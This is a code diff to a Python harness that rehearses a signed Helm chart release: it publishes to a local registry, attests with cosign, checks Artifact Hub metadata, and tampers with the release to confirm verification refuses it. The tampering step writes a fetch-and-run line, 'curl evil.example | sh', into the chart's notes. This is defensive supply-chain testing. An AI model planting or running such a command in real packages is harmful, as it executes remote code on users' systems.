@@ -11,6 +11,7 @@ from pathlib import Path
 from unittest.mock import patch
 
 from harness.cluster import Cluster
+from harness.cluster.given import Given
 from harness.errors import HarnessError
 from harness.paths import ROOT
 from harness.progress import console, step
@@ -27,10 +28,10 @@ To release for real, merge the pull request that release-please keeps open on ma
 with the registry ghcr.io and GitHub's identity instead of the key. See CONTRIBUTING.md, "Releases"."""
 
 
-def rehearse(cluster: Cluster | None = None, load: bool = False) -> None:
-    """Take the workflow's steps, then tamper with what was released; the chart is installed where there is a cluster.
+def rehearse(cluster: Cluster | None = None) -> None:
+    """Take the workflow's steps, then tamper with what was released; the chart is installed if there is a cluster.
 
-    With `load`, images made here are put into the cluster before. Helm, crane and cosign get no credentials.
+    Images made here are loaded into it first, unless it is the user's own. Helm, crane and cosign get no credentials.
 
     Raises:
         HarnessError: a step failed, or tampering was not noticed.
@@ -40,17 +41,25 @@ def rehearse(cluster: Cluster | None = None, load: bool = False) -> None:
         with patch.dict(os.environ, DOCKER_CONFIG=str(directory / "nobody")):
             package = _packaged(directory)
             with step("Making a key pair; releases have none, GitHub's identity signs"):
-                key = cosign.key_pair(directory)
+                key = cosign.key_pair(directory / "cosign")
             bill = directory / "sbom.json"
             bill.write_text(sbom.cyclonedx(package, f"{registry}/{package.name}"))
             published = publication.publish(package, bill, registry, key, plain_http=True)
             with step("Reading what Artifact Hub reads") as shown:
-                shown.detail(f"{_annotations(published)} annotations on the chart")
+                if (
+                    artifacthub.published(published.reference.removeprefix("oci://"))
+                    != (ROOT / "artifacthub-repo.yml").read_text()
+                ):
+                    raise HarnessError("Artifact Hub would read something else than artifacthub-repo.yml.")
+                manifest = json.loads(run([tool("crane"), "manifest", by_digest(published)]).stdout)
+                count = sum(key.startswith("artifacthub.io/") for key in manifest["annotations"])
+                shown.detail(f"{count} annotations on the chart")
             with step("Attesting the provenance, as GitHub's action does"):
                 statement = directory / "provenance.json"
                 statement.write_text(json.dumps(_provenance(package)))
                 cosign.attest(by_digest(published), key, cosign.PROVENANCE_TYPE, statement)
             (directory / "pulled").mkdir()
+            load = not isinstance(cluster, Given)
             pulled = publication.verify(published, key, directory / "pulled", True, cluster, load)
             _tamper(directory, package, registry, published, key, pulled)
     console.print(NEXT, markup=False, soft_wrap=True)
@@ -64,15 +73,6 @@ def _packaged(directory: Path) -> Package:
         size = package.archive.stat().st_size
         shown.detail(f"{package.archive.name}, {size:,} bytes, commit {package.commit.revision[:12]}{left_out}")
     return package
-
-
-def _annotations(published: Published) -> int:
-    """How many the chart has for Artifact Hub; its metadata is checked."""
-    repository = published.reference.removeprefix("oci://")
-    if artifacthub.published(repository) != (ROOT / "artifacthub-repo.yml").read_text():
-        raise HarnessError("Artifact Hub would read something else than artifacthub-repo.yml.")
-    manifest = json.loads(run([tool("crane"), "manifest", by_digest(published)]).stdout)
-    return sum(key.startswith("artifacthub.io/") for key in manifest["annotations"])
 
 
 def _provenance(package: Package) -> dict[str, object]:
@@ -96,7 +96,7 @@ def _tamper(
     notes.write_text(f"{notes.read_text()}\ncurl evil.example | sh\n")
     changed = replace(package, archive=pack(chart, directory / "third", package.commit.epoch))
     tampered = publication.push(changed, registry, plain_http=True)
-    other = cosign.key_pair(directory, "other")
+    other = cosign.key_pair(directory / "other")
     _refused("somebody else's signature", lambda: cosign.verify(by_digest(published), other))
     _refused("a changed archive", lambda: publication.check_contents(published, key, changed.archive))
     _refused("a changed chart under the same tag", lambda: cosign.verify(f"{repository}:{package.version}", key))
@@ -109,11 +109,7 @@ def _tamper(
 
 
 def _refused(what: str, attempt: Callable[[], object]) -> None:
-    """Show the reason for which the attempt is refused.
-
-    Raises:
-        HarnessError: it is not refused.
-    """
+    """Show why the attempt is refused; HarnessError if it is not."""
     with step(f"Refused: {what}") as shown:
         try:
             attempt()
